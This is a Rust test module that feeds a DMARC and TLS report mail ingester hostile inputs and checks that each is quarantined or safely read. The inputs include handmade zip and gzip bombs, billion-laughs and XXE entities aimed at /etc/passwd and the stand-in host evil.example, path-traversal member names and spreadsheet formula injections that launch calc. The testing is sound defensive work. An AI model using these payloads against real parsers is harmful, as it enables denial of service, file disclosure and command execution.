//! The mails that a stranger may send, each with what must become of it.

use std::io::Write as _;

use super::Wanted::{Quarantined, Read};
use super::{Case, MIB, Wanted};

const HEAD: &str = "<?xml version=\"1.0\"?><feedback><version>1.0</version><report_metadata><org_name>R</org_name><email>a@r.example\
                    </email><report_id>1</report_id><date_range><begin>1795132800</begin><end>1795219199</end></date_range>\
                    </report_metadata><policy_published><domain>example.com</domain><p>none</p></policy_published>";
const RECORD: &str = "<record><row><source_ip>192.0.2.1</source_ip><count>1</count></row></record>";

fn xml() -> String {
    format!("{HEAD}{RECORD}</feedback>")
}

fn attached(media_type: &str, bytes: &[u8]) -> Vec<u8> {
    let head = format!(
        "From: dmarc@r.example\nSubject: Report Domain: example.com Submitter: r.example Report-ID: 1\nMIME-Version: 1.0\n\
         Content-Type: {media_type}\nContent-Transfer-Encoding: base64\n\n"
    );
    let mut mail = head.into_bytes();
    for line in bytes.chunks(57) {
        mail.extend(data_encoding::BASE64.encode(line).as_bytes());
        mail.push(b'\n');
    }
    mail
}

fn inline(media_type: &str, text: &str) -> Vec<u8> {
    format!("From: dmarc@r.example\nSubject: Report Domain: example.com\nMIME-Version: 1.0\nContent-Type: {media_type}\n\n{text}")
        .into_bytes()
}

fn case(name: &'static str, mail: Vec<u8>, wanted: Wanted) -> Case {
    Case { name, mail, wanted }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    gzip_at(flate2::Compression::best(), bytes)
}

/// As most reporters do.
fn gzip_as_usual(bytes: &[u8]) -> Vec<u8> {
    gzip_at(flate2::Compression::default(), bytes)
}

fn gzip_at(level: flate2::Compression, bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), level);
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Bytes that come to about a fortieth of themselves: over `output` without being over `ratio`.
fn wordy(size: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(size + 100);
    let mut number = 1_u32;
    while out.len() < size {
        number = number.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        write!(out, "{:04x}{}", number >> 16, "x".repeat(90)).unwrap();
    }
    out.truncate(size);
    out
}

/// A zip, written by hand so that it can lie: for each member its name, its deflated bytes, and the size that is told of it.
fn zip(members: &[(&str, &[u8], u64)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    for (name, deflated, told) in members {
        let offset = u32::try_from(out.len()).unwrap();
        out.extend(b"PK\x03\x04");
        let shared = zip_fields(name, deflated, *told);
        out.extend([&shared[..], name.as_bytes(), deflated].concat());
        directory.extend(zip_entry(&shared, offset, name));
    }
    zip_end(out, &directory, members.len())
}

/// The fields that a member's own header and the directory share. The checksum is none: who lies does not compute it.
fn zip_fields(name: &str, deflated: &[u8], told: u64) -> Vec<u8> {
    let told = u32::try_from(told).unwrap_or(u32::MAX - 1);
    let packed = u32::try_from(deflated.len()).unwrap();
    let len = u16::try_from(name.len()).unwrap();
    [
        &[20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
        &packed.to_le_bytes(),
        &told.to_le_bytes(),
        &len.to_le_bytes(),
        &[0, 0],
    ]
    .concat()
}

fn zip_entry(shared: &[u8], offset: u32, name: &str) -> Vec<u8> {
    [b"PK\x01\x02\x14\0", shared, &[0; 10], &offset.to_le_bytes(), name.as_bytes()].concat()
}

fn zip_end(mut out: Vec<u8>, directory: &[u8], count: usize) -> Vec<u8> {
    let begin = u32::try_from(out.len()).unwrap().to_le_bytes();
    let size = u32::try_from(directory.len()).unwrap().to_le_bytes();
    let count = u16::try_from(count).unwrap().to_le_bytes();
    out.extend(directory);
    out.extend([b"PK\x05\x06\0\0\0\0", &count[..], &count, &size, &begin, &[0, 0]].concat());
    out
}

pub(super) fn archives() -> Vec<Case> {
    let zeros = vec![0; 60 * usize::try_from(MIB).unwrap()];
    let spaces = vec![b' '; zeros.len()];
    let bomb = deflate(&zeros);
    let told = u64::try_from(zeros.len()).unwrap();
    let small = deflate(xml().as_bytes());
    let size = u64::try_from(xml().len()).unwrap();
    let zipped = |inner: &[u8], name: &str| zip(&[(name, &deflate(inner), u64::try_from(inner.len()).unwrap())]);
    let of_bombs = |count: usize| {
        let members: Vec<(String, &[u8])> = (0..count).map(|n| (format!("{n}.xml"), bomb.as_slice())).collect();
        zip(&members.iter().map(|(name, bytes)| (name.as_str(), *bytes, told)).collect::<Vec<_>>())
    };
    let sheet = deflate(&of_bombs(16));
    let many: Vec<String> = (0..17).map(|n| format!("{n}.xml")).collect();
    let many: Vec<(&str, &[u8], u64)> = many.iter().map(|name| (name.as_str(), small.as_slice(), size)).collect();
    let crowd: Vec<String> = (0..60_000).map(|n| n.to_string()).collect();
    let crowd: Vec<(&str, &[u8], u64)> = crowd.iter().map(|name| (name.as_str(), &small[..0], 0)).collect();
    // One member that the directory names sixteen times, as zbsm does.
    let shared = zip_fields("1.xml", &bomb, told);
    let one = [b"PK\x03\x04", &shared[..], b"1.xml", &bomb].concat();
    let overlapping = zip_end(one, &zip_entry(&shared, 0, "1.xml").repeat(16), 16);
    // A thousand that all begin at one header, which does not say where they end; nor do the bytes after it.
    let endless = zip_fields("0000.xml", &[], 0);
    let names = (0..1000).map(|n| format!("{n:04}.xml"));
    let entries: Vec<u8> = names.flat_map(|name| zip_entry(&endless, 0, &name)).collect();
    let piled = zip_end([b"PK\x03\x04", &endless[..], b"0000.xml", &spaces[..20_000_000]].concat(), &entries, 1000);
    let text = wordy(70 * usize::try_from(MIB).unwrap());
    vec![
        case("gzip bomb", attached("application/gzip", &gzip(&spaces)), Quarantined("over the limit `ratio` of 200")),
        case(
            "gzip bomb of many members",
            attached("application/gzip", &gzip(&spaces[..2_000_000]).repeat(40)),
            Quarantined("over the limit `ratio` of 200"),
        ),
        case("zip bomb", attached("application/zip", &of_bombs(1)), Quarantined("over the limit `ratio` of 200")),
        case(
            "42.zip: sixteen zips of sixteen bombs",
            attached("application/zip", &zip(&(0..16).map(|_| ("lib.zip", sheet.as_slice(), 1)).collect::<Vec<_>>())),
            Quarantined("over the limit `members` of 16"),
        ),
        case(
            "zip of overlapping members",
            attached("application/zip", &overlapping),
            Quarantined("over the limit `ratio` of 200"),
        ),
        case(
            "a thousand members in one place",
            attached("application/zip", &piled),
            Quarantined("over the limit `members` of 16"),
        ),
        case(
            "gzip in gzip in gzip",
            attached("application/gzip", &gzip(&gzip(&gzip(xml().as_bytes())))),
            Quarantined("over the limit `depth` of 2"),
        ),
        case(
            "zip in zip in zip",
            attached("application/zip", &zipped(&zipped(&zipped(xml().as_bytes(), "r.xml"), "1.zip"), "2.zip")),
            Quarantined("over the limit `depth` of 2"),
        ),
        case(
            "seventeen members",
            attached("application/zip", &zip(&many)),
            Quarantined("over the limit `members` of 16"),
        ),
        case(
            "sixty thousand members",
            attached("application/zip", &zip(&crowd)),
            Quarantined("over the limit `members` of 16"),
        ),
        case(
            "a size that is too small",
            attached("application/zip", &zip(&[("r.xml", &bomb, 10)])),
            Quarantined("over the limit `ratio` of 200"),
        ),
        case(
            "a size that is too large",
            attached("application/zip", &zip(&[("r.xml", &small, u64::from(u32::MAX))])),
            Read(1, ""),
        ),
        case(
            "more than the output",
            attached("application/gzip", &gzip(&text)),
            Quarantined("over the limit `output` of 67108864"),
        ),
        case("loose gzip bomb", gzip(&spaces), Quarantined("over the limit `ratio` of 200")),
        case(
            "paths as names of members",
            attached(
                "application/zip",
                &zip(&[
                    ("../../../../etc/passwd", &small, size),
                    ("/evil", &small, size),
                    ("C:\\evil\\..\\x", &small, size),
                    ("a\0b\n.xml", &small, size),
                ]),
            ),
            Read(4, ""),
        ),
    ]
}

pub(super) fn documents() -> Vec<Case> {
    let lols = (1..10).fold("<!ENTITY l0 \"lol\">".to_owned(), |all, n| {
        format!("{all}<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))
    });
    let dtd =
        |doctype: &str, name: &str| xml().replace("<feedback>", &format!("{doctype}<feedback>")).replace(">R<", name);
    let refused = || Quarantined("the XML has a DOCTYPE, which is refused");
    let text = |text: &str| inline("text/xml", text);
    vec![
        case("entities that grow", text(&dtd(&format!("<!DOCTYPE feedback [{lols}]>"), ">&l9;<")), refused()),
        case(
            "entities that grow by one long value",
            text(&dtd(
                &format!("<!DOCTYPE feedback [<!ENTITY a \"{}\">]>", "a".repeat(100_000)),
                &format!(">{}<", "&a;".repeat(10_000)),
            )),
            refused(),
        ),
        case(
            "an external entity",
            text(&dtd("<!DOCTYPE feedback [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", ">&x;<")),
            refused(),
        ),
        case(
            "an external parameter entity",
            text(&dtd("<!DOCTYPE feedback [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>", ">R<")),
            refused(),
        ),
        case(
            "an external document type",
            text(&dtd("<!DOCTYPE feedback SYSTEM \"http://evil.example/x.dtd\">", ">R<")),
            refused(),
        ),
        case("a document type without end", text(&format!("<!DOCTYPE feedback [{}", "x".repeat(3_000_000))), refused()),
        case(
            "elements within elements",
            text(&format!("<feedback>{}", "<a>".repeat(1_000_000))),
            Quarantined("over the limit `xml_depth` of 100"),
        ),
        case(
            "an attribute of three megabytes",
            text(&format!("<feedback a=\"{}\">", "x".repeat(3_000_000))),
            Quarantined("over the limit `xml_token` of 1048576"),
        ),
        case(
            "two hundred thousand attributes",
            text(&format!("<feedback {}>", (0..200_000).map(|n| format!("a{n}=\"x\" ")).collect::<String>())),
            Quarantined("over the limit `xml_token` of 1048576"),
        ),
        case(
            "a value of three megabytes",
            text(&xml().replace(">R<", &format!(">{}<", "x".repeat(3_000_000)))),
            Quarantined("over the limit `xml_value` of 1048576"),
        ),
        case(
            "results without number",
            text(
                &xml().replace("</row>", &format!("</row><auth_results>{}</auth_results>", "<dkim/>".repeat(100_000))),
            ),
            Quarantined("over the limit `record_items` of 1000"),
        ),
        case(
            "records before the report",
            text(&format!("<feedback>{}", RECORD.repeat(20_000))),
            Quarantined("over the limit `records_early` of 10000"),
        ),
    ]
}

pub(super) fn json() -> Vec<Case> {
    let report = |policies: &str| {
        format!(
            "{{\"organization-name\":\"R\",\"report-id\":\"1\",\"date-range\":{{}},\"contact-info\":\"a@r.example\",\"policies\":{policies}}}"
        )
    };
    let sent = |text: &str| attached("application/tlsrpt+json", text.as_bytes());
    vec![
        case(
            "arrays within arrays",
            sent(&report(&format!("{}{}", "[".repeat(500_000), "]".repeat(500_000)))),
            Quarantined("over the limit `tls_depth` of 64"),
        ),
        case(
            "objects within objects, without end",
            sent(&report(&"{\"a\":".repeat(500_000))),
            Quarantined("over the limit `tls_depth` of 64"),
        ),
        case(
            "values without number",
            sent(&report(&format!("[{}0]", "0,".repeat(300_000)))),
            Quarantined("over the limit `tls_values` of 200000"),
        ),
        case(
            "a report of nine megabytes",
            sent(&report(&format!("[\"{}\"]", "x".repeat(9_000_000)))),
            Quarantined("over the limit `tls_document` of 8388608"),
        ),
    ]
}

pub(super) fn structure() -> Vec<Case> {
    let part = format!("--b\nContent-Type: text/xml\n\n{}\n", xml());
    let nested = (0..500)
        .fold(String::new(), |head, n| format!("{head}Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n"));
    vec![
        case(
            "multiparts within multiparts",
            format!("From: a@r.example\n{nested}").into_bytes(),
            Quarantined("over the limit `mime_depth` of 10"),
        ),
        case(
            "messages within messages",
            format!("From: a@r.example\n{}", "Content-Type: message/rfc822\n\n".repeat(10_000)).into_bytes(),
            Quarantined("over the limit `mime_depth` of 10"),
        ),
        case(
            "parts without number",
            format!("From: a@r.example\nContent-Type: multipart/mixed; boundary=b\n\n{}--b--\n", part.repeat(3_000))
                .into_bytes(),
            Quarantined("over the limit `parts` of 1000"),
        ),
        case(
            "header fields without number",
            format!("From: a@r.example\n{}\nbody\n", "X-A: b\n".repeat(50_000)).into_bytes(),
            Quarantined("over the limit `headers` of 10000"),
        ),
        case(
            "a mail that is too large",
            inline("text/plain", &"x".repeat(70 * usize::try_from(MIB).unwrap())),
            Quarantined("over the limit `mail_bytes` of 67108864"),
        ),
    ]
}

pub(super) fn texts() -> Vec<Case> {
    let mut cases = vec![
        case(
            "a report id that is a path",
            inline("text/xml", &xml().replace("<report_id>1<", "<report_id>../../../evil/passwd<")),
            Read(1, "../../../evil/passwd"),
        ),
        case(
            "control characters",
            inline("text/xml", &xml().replace(">R<", ">a\u{1b}[2Jb\u{7}\u{9b}31mc<")),
            Read(1, "\"a[2Jb31mc\""),
        ),
    ];
    for (name, sign) in
        [("a formula with =", '='), ("a formula with +", '+'), ("a formula with -", '-'), ("a formula with @", '@')]
    {
        let formula = format!("{sign}cmd|' /C calc'!A0");
        let told =
            xml().replace(">R<", &format!(">{formula}<")).replace("<report_id>1<", &format!("<report_id>{formula}<"));
        cases.push(case(name, inline("text/xml", &told), Read(1, "cmd|' /C calc'!A0")));
    }
    cases
}

/// As many as are within the limit of output, and more.
pub(super) fn million() -> Vec<Case> {
    let packed =
        |records: &str| attached("application/gzip", &gzip_as_usual(format!("{HEAD}{records}</feedback>").as_bytes()));
    let short = |n: u32| format!("<record><row><count>{}</count></row></record>", n * 7919 % 1009);
    let real = |n: u32| {
        let [_, a, b, c] = n.to_be_bytes();
        short(n).replace("<count>", &format!("<source_ip>10.{a}.{b}.{c}</source_ip><count>"))
    };
    let short: String = (0..1_000_000).map(short).collect();
    let some: String = (0..262_144).map(real).collect();
    let all: String = (0..1_000_000).map(real).collect();
    vec![
        case("records up to the limit", packed(&some), Read(262_144, "")),
        case("a million short records", packed(&short), Quarantined("over the limit `records` of 262144")),
        case("a million records", packed(&all), Quarantined("over the limit `records` of 262144")),
    ]
}
